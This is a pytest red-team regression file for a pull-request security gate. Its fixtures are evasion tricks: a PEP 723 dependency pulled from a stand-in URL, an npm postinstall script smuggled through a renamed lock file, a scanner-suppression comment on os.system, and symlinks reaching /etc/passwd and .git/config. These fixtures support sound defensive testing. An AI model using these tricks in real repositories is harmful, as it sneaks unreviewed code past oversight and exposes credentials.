"""Red-team regressions on triage (docs/security.md, §6.10): changes the gate passed without a
model although they change what runs — each found against main and fixed in the module that
decides, then driven here over the real wire: a real repository (pygit2), `gatebot review` as
the Action runs it, the loopback GitHub (the conclusion asserted is the one GitHub received)
and the loopback Gemini, which reports a high finding on every line carrying `FIXME-SECURITY`
that it is shown. So a change the gate sends to the model fails the check; one it skips passed
it. `Gate.run` checks that nothing outside the cache directory changed.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.review import formatting, local
from tests.fakes.gemini import FakeGemini
from tests.fakes.github import FakeGitHub
from tests.gitrepo import Content
from tests.security.prgate import Gate

MARK = "FIXME-SECURITY"
BASE: dict[str, Content] = {"src/app.py": "def run():\n    return 1\n", "README.md": "# app\n"}
EXEC = 0o100755


@pytest.fixture
def gate(tmp_path: Path, github_server: FakeGitHub, gemini_server: FakeGemini) -> Iterator[Gate]:
    yield Gate(tmp_path, github_server, gemini_server)


@dataclass(frozen=True)
class Case:
    base: dict[str, Content]
    head: dict[str, Content]
    path: str  # the file that must reach the model
    base_modes: dict[str, int] | None = None
    modes: dict[str, int] | None = None


_PEP723 = "import sys\n\n# /// script\n# dependencies = []\n# ///\nprint(sys.argv)\n"

# Lock-file text with registry sources only (free as a lock file), and a script in it.
_LOCK = (
    '{\n  "name": "tools",\n  "lockfileVersion": 3,\n'
    + "".join(f'  "pad{i}": "{i}",\n' for i in range(12))
    + f'  "scripts": {{"postinstall": "node -e \'require(`./x`)\' # {MARK}"}}\n}}\n'
)

CASES: dict[str, Case] = {
    # Comments are not in the AST, but tools read them: `uv run tools/x.py` installs what a
    # PEP 723 block lists. Found: `formatting-only change (equal Python AST)`, success.
    "python: a PEP 723 dependency added in a comment": Case(
        {**BASE, "tools/x.py": _PEP723},
        {
            "tools/x.py": _PEP723.replace(
                "# dependencies = []",
                f'# dependencies = ["helper @ https://x.invalid/helper.whl"]  # {MARK}',
            )
        },
        "tools/x.py",
    ),
    # A scanner's suppression comment that no list of directive names had.
    "python: a scanner's suppression comment": Case(
        {**BASE, "src/run.py": "import os\n\n\ndef go(cmd):\n    os.system(cmd)\n"},
        {"src/run.py": f"import os\n\n\ndef go(cmd):\n    os.system(cmd)  # nosemgrep {MARK}\n"},
        "src/run.py",
    ),
    # A space turns `#///` (a comment) into `# ///` (a PEP 723 block).
    "python: a space that starts a PEP 723 block": Case(
        {**BASE, "tools/y.py": f"#///script\n#dependencies=['x']  {MARK}\n#///\nprint(1)\n"},
        {"tools/y.py": f"# /// script\n# dependencies=['x']  {MARK}\n# ///\nprint(1)\n"},
        "tools/y.py",
    ),
    # An executable file without a `#!` line is run by the shell (execve's ENOEXEC fallback)
    # whatever its extension: `x=1` assigns, `x = 1` runs a command called x. Found: skipped
    # as formatting-only by the language its name suggests (Python AST, JSON tokens, YAML).
    "executable .py without a #! line, re-spaced": Case(
        {**BASE, "tools/run.py": f"x=1  # {MARK}\n"},
        {"tools/run.py": f"x = 1  # {MARK}\n"},
        "tools/run.py",
        base_modes={"tools/run.py": EXEC},
        modes={"tools/run.py": EXEC},
    ),
    "executable .json without a #! line, re-spaced": Case(
        {**BASE, "tools/cmd.json": f'["echo","{MARK}"]\n'},
        {"tools/cmd.json": f'[ "echo", "{MARK}" ]\n'},
        "tools/cmd.json",
        base_modes={"tools/cmd.json": EXEC},
        modes={"tools/cmd.json": EXEC},
    ),
    "executable .yml without a #! line, CRLF to LF": Case(
        {**BASE, "tools/job.yml": f"echo {MARK}\r\n"},
        {"tools/job.yml": f"echo {MARK}\n"},
        "tools/job.yml",
        base_modes={"tools/job.yml": EXEC},
        modes={"tools/job.yml": EXEC},
    ),
    "executable .py whose #! line follows a BOM, re-spaced": Case(
        {**BASE, "tools/bom.py": f"\ufeff#!/usr/bin/env python3\nx=1  # {MARK}\n"},
        {"tools/bom.py": f"\ufeff#!/usr/bin/env python3\nx = 1  # {MARK}\n"},
        "tools/bom.py",
        base_modes={"tools/bom.py": EXEC},
        modes={"tools/bom.py": EXEC},
    ),
    # A lock file is free once its package sources are checked: the rest of its text is never
    # read. Renamed to a name that is not a lock file, the same bytes were "renamed without
    # content change", skipped: a two-step way to land an npm `postinstall` unread.
    "lock file renamed to a manifest": Case(
        {**BASE, "tools/package-lock.json": _LOCK},
        {"tools/package-lock.json": None, "tools/package.json": _LOCK},
        "tools/package.json",
    ),
    "lock file renamed to a manifest, with an edit": Case(
        {**BASE, "tools/package-lock.json": _LOCK},
        {
            "tools/package-lock.json": None,
            "tools/package.json": _LOCK.replace('"lockfileVersion": 3', '"version": "1.0.0"'),
        },
        "tools/package.json",
    ),
}


def test_only_a_real_shebang_lets_an_executable_be_formatting_only() -> None:
    # The language of an executable file comes from its `#!` line or it is shell.
    old, new = b"x=1\n", b"x = 1\n"
    assert formatting.formatting_only("t.py", old, new, modes=(EXEC, EXEC)) is None
    assert formatting.formatting_only("t.py", old, new, modes=(EXEC, 0o100644)) is None
    assert formatting.formatting_only("t.py", old, new) is not None  # not executable: Python
    py = b"#!/usr/bin/env python3\n"
    assert formatting.formatting_only("t.py", py + old, py + new, modes=(EXEC, EXEC)) is not None


@pytest.mark.parametrize("name", sorted(CASES))
def test_a_change_that_alters_what_runs_reaches_the_model(
    gate: Gate, gemini_server: FakeGemini, name: str
) -> None:
    case = CASES[name]
    gate.base = gate.repo.commit(case.base, message="main", modes=case.base_modes)
    head = gate.push(case.head, modes=case.modes)
    run = gate.run(head)  # asserts nothing outside the cache changed
    f = next(f for f in run.verdict["files"] if f["path"] == case.path)
    assert f["status"] == "reviewed", f
    assert case.path in gemini_server.stats.paths_asked(), gemini_server.stats.paths_asked()
    assert run.check.conclusion == "failure" and run.code == 1, (run.check, f)


# --- symbolic links, resolved through the tree's own links -------------------------------

LINK = 0o120000
# (base links, the PR's links, the link that must be flagged). Found: the check read the target
# as text only, so a link through another link of the tree (`d/l -> ..`) passed as in-tree,
# and a link into `.git` (the checkout's config, with its token when credentials persist) too.
LINK_CASES: dict[str, tuple[dict[str, str], dict[str, str], str]] = {
    "through a link the PR adds": ({}, {"d/l": "..", "x": "d/l/.."}, "x"),
    "through a link already on the base": (
        {"d/up": ".."},
        {"cfg/settings.py": "../d/up/../etc/passwd"},
        "cfg/settings.py",
    ),
    "through a chain of links": (
        {},
        {"a/l1": "../b/l2", "b/l2": "../c/l3", "c/l3": "..", "data/x.py": "../a/l1/.."},
        "data/x.py",
    ),
    "into .git": ({}, {"docs/config.txt": "../.git/config"}, "docs/config.txt"),
    "into .git under another case": ({}, {"hooks": "src/../.GIT/hooks"}, "hooks"),
}


@pytest.mark.parametrize("name", sorted(LINK_CASES))
def test_a_link_that_leaves_the_repository_through_links_fails(gate: Gate, name: str) -> None:
    base_links, links, flagged = LINK_CASES[name]
    base = {**BASE, **base_links}
    gate.base = gate.repo.commit(base, message="main", modes=dict.fromkeys(base_links, LINK))
    head = gate.push(dict(links), modes=dict.fromkeys(links, LINK))
    run = gate.run(head)  # asserts nothing outside the cache changed
    f = next(f for f in run.verdict["files"] if f["path"] == flagged)
    assert [x["severity"] for x in f["findings"] if x["category"] == "symlink"] == ["high"], f
    assert run.check.conclusion == "failure" and run.code == 1, run.check


def test_links_that_stay_inside_are_not_flagged() -> None:
    tree = {"d/l": "a/b/c", "up": "."}
    at = tree.get
    assert local.link_escapes("x", "d/l/../../../..", at) is None  # d/a/b/c, up four: the root
    assert local.link_escapes("s/x", "../up/up/src", at) is None
    assert local.link_escapes("x", "d/l/../../../../..", at) == "climbs out of the checkout"
    loop = {"a": "b", "b": "a"}.get
    assert local.link_escapes("x", "a/../..", loop) is None  # ELOOP: the system reaches nothing
